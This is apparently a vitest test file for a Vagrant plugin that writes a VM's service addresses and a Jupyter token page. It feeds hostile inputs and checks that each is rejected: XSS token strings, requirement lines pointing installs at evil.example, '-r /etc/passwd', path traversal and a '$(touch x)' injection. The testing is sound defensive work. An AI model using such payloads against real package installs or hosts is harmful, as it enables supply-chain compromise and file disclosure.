/** What the trigger writes beside the Vagrantfile, and that a hostile VM cannot make it write anything else. */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { evaluate } from "./render-ruby.ts";

const TOKEN = "0123456789abcdef0123456789abcdef";
let folder = "";
beforeEach(() => {
  folder = fs.mkdtempSync(path.join(os.tmpdir(), "notebox-endpoints-"));
});
afterEach(() => fs.rmSync(folder, { recursive: true, force: true }));

interface Vm {
  token?: string | null;
  lock?: string | null;
  state?: string;
  /** What it says before that, each once. */
  before?: string[];
  provider?: string;
  /** Host ports by guest port, as VirtualBox tells them. */
  ports?: Record<number, number>;
  services?: string;
}

const PAGE = 'page: { title: "Jupyter", address: "lab?token={token}", order: 50 }';
const SERVICES = `{ "jupyter" => { kind: "jupyter", port: 8888, scheme: "http", ${PAGE} }, "marks" => { kind: "kernel-gateway", port: 8889, scheme: "http" } }`;

/** Calls one method with a VM that answers so; returns the warnings. */
function call(method: string, vm: Vm = {}): string[] {
  const {
    token = TOKEN,
    lock = null,
    state = "running",
    provider = "virtualbox",
    ports = { 8888: 8888, 8889: 2201 },
  } = vm;
  const answers = path.join(folder, "answers.json");
  fs.writeFileSync(answers, JSON.stringify({ token, lock }));
  const code = `
    require "ostruct"
    require "pathname"
    answers = JSON.parse(File.read(${JSON.stringify(answers)}, encoding: "UTF-8"))
    File.delete(${JSON.stringify(answers)})
    warnings = []
    communicate = Object.new
    communicate.define_singleton_method(:sudo) do |command, **_options, &block|
      next system("bash", "-c", command.gsub("/var/lib/notebox", ${JSON.stringify(folder)})) ? 0 : 1 if command.include?("addresses")
      answer = answers[command.include?("/tokens/") ? "token" : "lock"]
      block.call(:stderr, "mesg: ttyname failed")
      block.call(:stdout, answer.dup) if answer
      answer ? 0 : 1
    end
    ports = ${JSON.stringify(ports)}.to_a.map { |guest, host| [host, guest.to_s.to_i] }.to_h
    machine = OpenStruct.new(
      provider_name: :${provider}, communicate: communicate,
      ssh_info: { host: "127.0.0.1", port: 2222, username: "vagrant", private_key_path: ["/k/private_key"] },
      provider: Object.new,
      env: OpenStruct.new(root_path: Pathname.new(${JSON.stringify(folder)})),
      config: OpenStruct.new(vm: OpenStruct.new(networks: [[:forwarded_port, { guest: 8888, host: 8888 }], [:forwarded_port, { guest: 8889, host: 8889 }]])),
      data_dir: Pathname.new(${JSON.stringify(path.join(folder, "data"))}),
      ui: OpenStruct.new.tap { |ui| ui.define_singleton_method(:warn) { |text| warnings << text } }
    )
    machine.provider.define_singleton_method(:capability?) { |_| ${provider === "virtualbox"} }
    machine.provider.define_singleton_method(:capability) { |_| ports }
    Notebox::Endpoints.send(:remove_const, :PAUSE)
    Notebox::Endpoints::PAUSE = 0
    before = ${JSON.stringify(vm.before ?? [])}.map(&:to_sym)
    machine.define_singleton_method(:state) { OpenStruct.new(id: before.shift || :${state}) }
    Notebox::Endpoints.new(machine, { services: ${vm.services ?? SERVICES} }).${method}
    warnings`;
  return evaluate("endpoints.rb", code) as string[];
}

const at = (name: string): string => path.join(folder, ".notebox", name);
const read = (name: string): string => fs.readFileSync(at(name), "utf8");

describe("a VM that runs", () => {
  test("gets its addresses written although libvirt does not name the VM's for a while", () => {
    const inaccessible = (count: number): string[] => Array(count).fill("inaccessible");
    expect(call("write", { provider: "libvirt", before: inaccessible(4) })).toEqual([]);
    expect(fs.existsSync(at("endpoints.json"))).toBe(true);
    call("write", { provider: "libvirt", before: inaccessible(20) });
    expect(fs.existsSync(at("endpoints.json"))).toBe(false);
  });

  test("gets its addresses written with the real ports and without the token", () => {
    expect(call("write")).toEqual([]);
    expect(JSON.parse(read("endpoints.json"))).toEqual({
      version: 1,
      provider: "virtualbox",
      services: {
        jupyter: { kind: "jupyter", url: "http://127.0.0.1:8888/" },
        marks: { kind: "kernel-gateway", url: "http://127.0.0.1:2201/" },
      },
      ssh: { host: "127.0.0.1", port: 2222, user: "vagrant", key: "/k/private_key" },
    });
    expect(read("endpoints.json")).not.toContain(TOKEN);
    expect(fs.readdirSync(path.join(folder, ".notebox")).sort()).toEqual(["endpoints.json", "open.html"]);
  });

  test("gets a page that leads to Jupyter with the token, for its owner's eyes, without a referrer", () => {
    fs.mkdirSync(path.join(folder, ".notebox"));
    fs.writeFileSync(at("open.html"), "old", { mode: 0o666 });
    call("write");
    for (const name of ["open.html", "endpoints.json"]) expect(fs.statSync(at(name)).mode & 0o777).toBe(0o600);
    expect(read("open.html")).toContain(`content="0; url=http://127.0.0.1:8888/lab?token=${TOKEN}"`);
    expect(read("open.html")).toContain('<meta name="referrer" content="no-referrer">');
  });

  test("without Jupyter gets no page", () => {
    expect(
      call("write", { services: '{ "marks" => { kind: "kernel-gateway", port: 8889, scheme: "http" } }' }),
    ).toEqual([]);
    expect(fs.existsSync(at("open.html"))).toBe(false);
  });

  test("opens the page that comes first, and has no address for what runs inside alone", () => {
    const home = 'page: { title: "All <services>", address: "\\#{token}", order: 10 }';
    const more = `"db" => { kind: "postgres", port: nil }, "home" => { kind: "home", port: 8889, scheme: "http", ${home} }`;
    expect(call("write", { services: SERVICES.replace(/"marks".*$/, `${more} }`) })).toEqual([]);
    expect(read("open.html")).toContain(`content="0; url=http://127.0.0.1:2201/#${TOKEN}"`);
    expect(read("open.html")).toContain("<title>Opening All &lt;services&gt;</title>");
    const { services } = JSON.parse(read("endpoints.json"));
    expect(services.db).toEqual({ kind: "postgres" });
    expect(services.home.url).toBe("http://127.0.0.1:2201/");
  });

  test("with a home page is told its ports on this computer and its pages, without a token", () => {
    const home = 'page: { title: "the home page", address: "\\#token={token}", order: 10 }';
    const odd = 'page: { title: "It\'s \\"odd\\" $(touch x) `x`", address: "?token={token}", order: 20 }';
    const services = `{ "jupyter" => { kind: "jupyter", port: 8888, scheme: "http", ${odd} }, "db" => { kind: "postgres", port: nil }, "home" => { kind: "home", port: 8889, scheme: "http", ${home} } }`;
    expect(call("write", { services })).toEqual([]);
    const told = fs.readFileSync(path.join(folder, "addresses.json"), "utf8");
    expect(JSON.parse(told)).toEqual({
      jupyter: { port: 8888, title: 'It\'s "odd" $(touch x) `x`', page: "?token={token}" },
      home: { port: 2201, title: "the home page", page: "#token={token}" },
    });
    expect(told).not.toContain(TOKEN);
    fs.rmSync(path.join(folder, "addresses.json"));
    call("write");
    expect(fs.existsSync(path.join(folder, "addresses.json"))).toBe(false);
  });

  test("of libvirt: the ports are those of the forwarding processes", () => {
    const data = path.join(folder, "data");
    fs.mkdirSync(path.join(data, "pids"), { recursive: true });
    fs.mkdirSync(path.join(data, "logs"));
    fs.writeFileSync(path.join(data, "pids/ssh_2200.pid"), "1");
    fs.writeFileSync(path.join(data, "pids/ssh_8889.pid"), "1");
    for (const [host, guest] of [
      [8888, 8888],
      [2200, 8888],
      [8889, 8889],
    ])
      fs.writeFileSync(path.join(data, `logs/ssh-forwarding-127.0.0.1_${host}-192.168.121.5_${guest}.log`), "");
    call("write", { provider: "libvirt" });
    const { services } = JSON.parse(read("endpoints.json"));
    expect([services.jupyter.url, services.marks.url]).toEqual(["http://127.0.0.1:2200/", "http://127.0.0.1:8889/"]);
  });
});

describe("a VM that is odd or hostile", () => {
  test("has no token: a warning and no page, but the addresses", () => {
    fs.mkdirSync(path.join(folder, ".notebox"));
    fs.writeFileSync(at("open.html"), "old");
    expect(call("write", { token: null })).toEqual([expect.stringMatching(/Jupyter has no token yet/)]);
    expect(fs.existsSync(at("open.html"))).toBe(false);
    expect(fs.existsSync(at("endpoints.json"))).toBe(true);
  });

  test.each([
    ["<script>alert(1)</script>"],
    ['"><script>x</script>'],
    ["short"],
    ["a".repeat(5000)],
    [`${TOKEN}\nx`],
    [""],
  ])("sends %j for a token: no page", (token) => {
    expect(call("write", { token })).toEqual([expect.stringMatching(/no token/)]);
    expect(fs.existsSync(at("open.html"))).toBe(false);
  });

  test.each([
    ["--index-url https://evil.example/simple\n"],
    ["-e git+https://evil.example/x\n"],
    ["pandas @ https://evil.example/x.whl\n"],
    ["pandas==1.0 --index-url https://evil.example\n"],
    ["pandas==1.0 \\\n--find-links /tmp\n"],
    ["# fine \\\n--pre\n"],
    ["pandas>=1\n"],
    ["\u001b]0;title\u0007\n"],
    ["a==1\n".repeat(300_000)],
    ["../../x==1\n"],
    ["pandas==1.0\r\n-r /etc/passwd\r\n"],
  ])("sends a lock that is more than versions and hashes: %j is not taken over", (lock) => {
    fs.writeFileSync(path.join(folder, "workbench.lock"), "old\n");
    expect(call("write", { lock })).toEqual([expect.stringMatching(/was not taken over/)]);
    expect(fs.readFileSync(path.join(folder, "workbench.lock"), "utf8")).toBe("old\n");
  });

  test("a sound lock is taken over, and left alone when it says the same", () => {
    const lock = `# made in the VM\n# python 3.13\npandas==2.2.3 \\\n    --hash=sha256:${"0".repeat(64)} \\\n    --hash=sha256:${"f".repeat(64)}\npython-dateutil==2.9.0.post0\n\n`;
    expect(call("write", { lock })).toEqual([]);
    const file = path.join(folder, "workbench.lock");
    expect(fs.readFileSync(file, "utf8")).toBe(lock);
    fs.utimesSync(file, 1, 1);
    call("write", { lock });
    expect(fs.statSync(file).mtimeMs).toBe(1000);
  });

  test("never ends the start with a backtrace", () => {
    fs.writeFileSync(path.join(folder, ".notebox"), "a file in the way");
    expect(call("write")).toEqual([expect.stringMatching(/The VM runs, but its addresses could not be written/)]);
  });
});

describe("a VM that stops", () => {
  test("takes both files with it", () => {
    call("write");
    call("remove_unless_running", { state: "poweroff" });
    expect(fs.readdirSync(path.join(folder, ".notebox"))).toEqual([]);
  });

  test("or that was not destroyed after all keeps them", () => {
    call("write");
    call("remove_unless_running");
    expect(fs.readdirSync(path.join(folder, ".notebox")).sort()).toEqual(["endpoints.json", "open.html"]);
  });
});
